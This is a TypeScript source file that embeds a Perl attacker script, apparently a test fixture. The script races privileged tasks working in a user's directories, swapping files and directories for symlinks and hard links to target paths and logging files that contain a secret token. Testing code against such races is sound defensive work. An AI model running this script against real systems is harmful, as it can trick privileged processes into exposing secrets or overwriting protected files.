/**
 * The program of a hostile user who attacks tasks that work in the user's directories. It is in Perl, which every
 * Debian has.
 */

/**
 * Its arguments: a file that ends it, a folder for what it moves away meanwhile, a file for what it finds out, the
 * secret text, the targets that it wants others to write to, and the directories in which it swaps names.
 *
 * It replaces names by links to the targets, and files by other files; moves new files away before they are renamed to
 * their place; and replaces whole directories by links. It does so as fast as it can, in varying order. At its end
 * everything is where it was.
 */
export const attacker = String.raw`use strict; use Fcntl; use Time::HiRes qw(time);
my ($stop, $aside, $loot, $token, $targets, @dirs) = @ARGV;
my @aims = ("$targets/file", "$targets", "$targets/deep", "$targets/secret");
my $turn = 0;
sub loot { my $path = shift; sysopen(my $in, $path, O_RDONLY | O_NONBLOCK) or return; return unless -f $in;
  sysread($in, my $text, 4096); if ($text =~ /$token/) { open(my $out, ">>", $loot); print $out "$path\n"; } }
sub around { my $at = shift; opendir(my $d, $at) or return; grep { !/^\.\.?$/ } readdir $d; }
sub pause { select undef, undef, undef, 0.0002 * ($turn % 8); }
sub swapped { my ($path, $aim) = @_;
  my $away = "$aside/$$.$turn";
  my $was = rename $path, $away;
  if (symlink $aim, $path) { loot($path); pause(); unlink $path; }
  if (link "$targets/open", $path) { pause(); unlink $path; }
  rename $away, $path if $was; }
my @kinds = ("names", "staged", "parent", "below");
my %known = map { my $dir = $_; map { ("$dir/$_" => 1) } around($dir) } @dirs;
while (!-e $stop) {
  my $kind = $kinds[int(time * 40) % @kinds];
  my $aim = $aims[$turn++ % @aims];
  for my $dir (@dirs) {
    last if -e $stop;
    if ($kind eq "names") { swapped("$dir/$_", $aim) for around($dir); }
    elsif ($kind eq "staged") {
      for my $name (around($dir)) {
        my $path = "$dir/$name"; next if $known{$path};
        loot($path); loot("$path/$_") for around($path);
        my $away = "$aside/$$.$turn";
        rename $path, $away and symlink $aim, $path or next;
        loot($away); loot("$away/$_") for around($away); pause();
        unlink $path; rename $away, $path;
      }
    } elsif ($kind eq "parent") {
      rename $dir, "$aside/parent" and symlink "$targets/deep", $dir or next;
      pause(); unlink $dir; rename "$aside/parent", $dir; pause();
    } else {
      for my $name (around($dir)) { my $at = "$dir/$name"; next if -l $at; swapped("$at/$_", $aim) for around($at); }
    }
  }
}
`;
